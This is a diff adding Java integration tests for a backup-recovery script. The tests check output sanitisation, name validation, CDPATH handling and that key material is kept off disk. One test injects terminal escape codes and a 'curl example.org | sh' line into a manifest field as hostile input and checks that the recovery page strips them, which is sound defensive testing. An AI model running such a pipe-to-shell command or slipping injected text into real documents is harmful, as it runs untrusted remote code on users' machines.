@@ -341,6 +341,64 @@ class RecoverScriptIT {
     recover("extract", ENTRY_1, owner, out).failed("not a name to write to");
   }
 
+  private static final String HEAD =
+      """
+      {"manifest":1,"name":"n","taken":"t","outcome":"good","plan":"p","writer":"host-a"}
+      {"source":"cfg","component":"config","kind":"files/1","versions":{},"properties":{"root":"/etc"}}
+      """;
+
+  @Test
+  void the_steps_to_a_new_host_have_no_line_of_an_attackers() throws Exception {
+    backUp(identity.recipient());
+    String evil = "5\\u001b]0;x\\u0007\\n\\n## 9. More\\n```\\ncurl example.org | sh\\n```";
+    replaceManifest(
+        HEAD
+            + "{\"artifact\":\"cfg/files.tar\",\"size\":1,\"sha256\":\"00\"}\n"
+            + "{\"inventory\":\"cfg\",\"items\":[{\"name\":\"n\",\"count\":\"%s\"}]}\n"
+                .formatted(evil));
+
+    String page = recover("host", ENTRY_1, owner).good();
+
+    assertTrue(page.contains("n 5?]0;x?"), page);
+    assertTrue(page.chars().noneMatch(c -> c < ' ' && c != '\n' && c != '\t'), page);
+    assertTrue(page.lines().noneMatch(l -> l.startsWith("## 9") || l.startsWith("curl")), page);
+  }
+
+  @Test
+  void a_name_that_ends_with_a_line_is_no_name() throws Exception {
+    backUp(identity.recipient());
+    replaceManifest(HEAD + "{\"artifact\":\"cfg/files.tar\\n\",\"size\":1,\"sha256\":\"00\"}\n");
+
+    recover("host", ENTRY_1, owner).failed("nobody should carry out");
+  }
+
+  @Test
+  void what_the_caller_has_under_the_name_of_the_folder_of_keys_stays() throws Exception {
+    backUp(identity.recipient());
+    Path mine = Files.createDirectory(directory.resolve("mine"));
+    Files.writeString(mine.resolve("key"), "mine");
+    tools.with("secret", mine.toString()).with("CDPATH", directory.toString());
+
+    recover("list").good();
+    recover("verify", ENTRY_1, signers).good();
+    recover("extract", ENTRY_1, owner, out, signers).good();
+    recover("nonsense").failed("recover.sh");
+
+    try (Stream<Path> left = Files.list(mine)) {
+      assertEquals(List.of(mine.resolve("key")), left.toList());
+    }
+    assertEquals(List.of(), tools.left());
+    requireEqual(blobs.all());
+  }
+
+  @Test
+  void keys_lie_on_no_disk_unless_somebody_says_so() throws Exception {
+    backUp(identity.recipient());
+    tools.with("RECOVER_TMP", directory.resolve("absent").toString());
+
+    recover("extract", ENTRY_1, owner, out, signers).failed("name one in memory by RECOVER_TMP");
+  }
+
   private void backUp(Recipient recipient) throws Exception {
     try (BackupEngine engine = BackupEngine.open(plan(recipient))) {
       engine.backup(BackupRequest.full().named("nightly-" + ++snapshots));
